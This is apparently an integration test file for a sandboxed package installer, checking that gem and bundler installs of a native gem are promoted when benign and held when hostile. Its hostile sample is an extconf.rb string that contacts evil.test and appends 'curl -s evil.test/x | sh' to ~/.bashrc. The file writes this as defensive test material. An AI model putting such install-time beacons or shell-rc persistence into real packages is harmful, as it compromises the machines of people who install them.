// gem and bundler through the whole pipeline — sandbox, gateway, staging, verdict, promotion —
// against a gem source the test serves in its own fake internet: a gem with a native extension
// whose extconf.rb runs at install, and one whose extconf.rb behaves like an attacker's.
#include <catch2/catch.hpp>
#include <filesystem>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/ecosystem_registries.h"
#include "tests/support/fake_internet.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;

namespace {

constexpr const char* kSource = "http://registry.test/gems/";

// A gem with a native extension (its extconf.rb writes an empty Makefile) on a pure one.
std::vector<GemPackage> native_gems(const std::string& extconf_prelude) {
  return {
      {.name = "si-leaf", .version = "1.0.0", .files = {{"lib/si-leaf.rb", "SI_LEAF = 'leaf'\n"}}},
      {.name = "si-native",
       .version = "2.0.0",
       .files = {{"lib/si-native.rb", "require 'si-leaf'\nSI_NATIVE = 'native+' + SI_LEAF\n"}},
       .dependencies = {{"si-leaf", ">= 1.0"}},
       .extconf_rb =
           extconf_prelude + "File.write('Makefile', \"all:\\ninstall:\\nclean:\\n\")\n"}};
}

// What an attacker's extconf.rb does: phone home, then plant a line in the shell rc.
const std::string kHostileExtconf =
    "require 'net/http'\n"
    "['http://evil.test/collect?k=v', 'https://evil.test/collect'].each do |url|\n"
    "  begin\n"
    "    Net::HTTP.get_response(URI(url))\n"
    "    puts \"extconf: reached #{url}\"\n"
    "  rescue StandardError => e\n"
    "    puts \"extconf: refused #{url}: #{e.class}\"\n"
    "  end\n"
    "end\n"
    "File.open(File.join(Dir.home, '.bashrc'), 'a') { |rc| rc.puts 'curl -s evil.test/x | sh' }\n";

SandboxRun gem_install(const Scenario& s) {
  auto run = s.run({"gem", "install", "--clear-sources", "--source", kSource, "--install-dir",
                    "vendor/gems", "--no-document", "si-native"},
                   {"--allow-host", "registry.test:80"}, kCleanCiEnv, 120s);
  UNSCOPED_INFO("gem install\nexit " << run.exit_code() << "\nstdout: " << run.result.out
                                     << "\nstderr: " << run.result.err);
  return run;
}

// No --allow-host: the Gemfile's source is the only place registry.test is named.
SandboxRun bundle_install(const Scenario& s) {
  auto run = s.run({"bundle", "install"}, {}, kCleanCiEnv, 120s);
  UNSCOPED_INFO("bundle install\nexit " << run.exit_code() << "\nstdout: " << run.result.out
                                        << "\nstderr: " << run.result.err);
  return run;
}

void check_all_expected(const SandboxRun& run) {
  for (const auto& change : run.report.at("files").at("project"))
    CHECK(change.at("category") == "expected");
}

}  // namespace

TEST_CASE("gem installs a gem whose extconf.rb runs into the project's vendor dir",
          "[install][gem]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "gem", "make");
  FakeInternet net(SI_SINK_PATH);
  write_gem_registry(net.registry_root(), "http://registry.test/",
                     native_gems("puts 'extconf of si-native ran'\n"));
  Scenario s(who);
  s.run_behind(net.in_world({}));

  auto install = gem_install(s);
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("profile") == "gem");
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(project_file(s, "vendor/gems/gems/si-leaf-1.0.0/lib/si-leaf.rb") == "SI_LEAF = 'leaf'\n");
  CHECK(in_project(s, "vendor/gems/gems/si-native-2.0.0/lib/si-native.rb"));
  check_all_expected(install);
  CHECK_FALSE(contacted_hosts(install.report, "registry.test").empty());
  CHECK(contains(net.log(FakeInternet::Log::Registry), "GET /gems/gems/si-native-2.0.0.gem"));
  CHECK(net.sink_log().empty());
}

TEST_CASE("a gem whose extconf.rb phones home and plants a shell rc line is held",
          "[install][gem]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "gem", "make");
  FakeInternet net(SI_SINK_PATH);
  write_gem_registry(net.registry_root(), "http://registry.test/", native_gems(kHostileExtconf));
  Scenario s(who);
  s.run_behind(net.in_world({}));

  auto install = gem_install(s);
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "vendor"));
  check_exfiltration_contained(install, net, 2);  // evil.test:80 and :443
}

TEST_CASE("bundle install finds the Gemfile's source and promotes vendor/bundle and the lockfile",
          "[install][bundler]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "bundle", "make");
  FakeInternet net(SI_SINK_PATH);
  write_gem_registry(net.registry_root(), "http://registry.test/",
                     native_gems("puts 'extconf of si-native ran'\n"));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  host_write(s, "Gemfile", "source \"http://registry.test/gems/\"\ngem \"si-native\"\n");

  auto install = bundle_install(s);
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("profile") == "bundler");
  CHECK(install.report.at("verdict") == "promoted");
  CHECK(contains(project_file(s, "Gemfile.lock"), "si-native (2.0.0)"));
  const auto* native = added_package(install.report, "RubyGems", "si-native");
  REQUIRE(native != nullptr);
  CHECK(native->at("version") == "2.0.0");
  CHECK(native->at("direct") == true);
  CHECK(in_project(s, "vendor/bundle"));
  check_all_expected(install);
  // Allowed because the Gemfile names it, and the receipt says where it came from.
  CHECK_FALSE(contacted_hosts(install.report, "registry.test").empty());
  CHECK(contains(install.result.err, "Gemfile"));
  CHECK(net.sink_log().empty());
}

TEST_CASE("bundle install of a gem whose extconf.rb phones home is held with nothing promoted",
          "[install][bundler]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_INSTALL_TEST(who, "bundle", "make");
  FakeInternet net(SI_SINK_PATH);
  write_gem_registry(net.registry_root(), "http://registry.test/", native_gems(kHostileExtconf));
  Scenario s(who);
  s.run_behind(net.in_world({}));
  host_write(s, "Gemfile", "source \"http://registry.test/gems/\"\ngem \"si-native\"\n");

  auto install = bundle_install(s);
  CHECK(install.exit_code() == kExitSuspicious);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("verdict") == "held");
  CHECK_FALSE(in_project(s, "vendor"));
  CHECK_FALSE(in_project(s, "Gemfile.lock"));
  check_exfiltration_contained(install, net, 2);  // evil.test:80 and :443
}
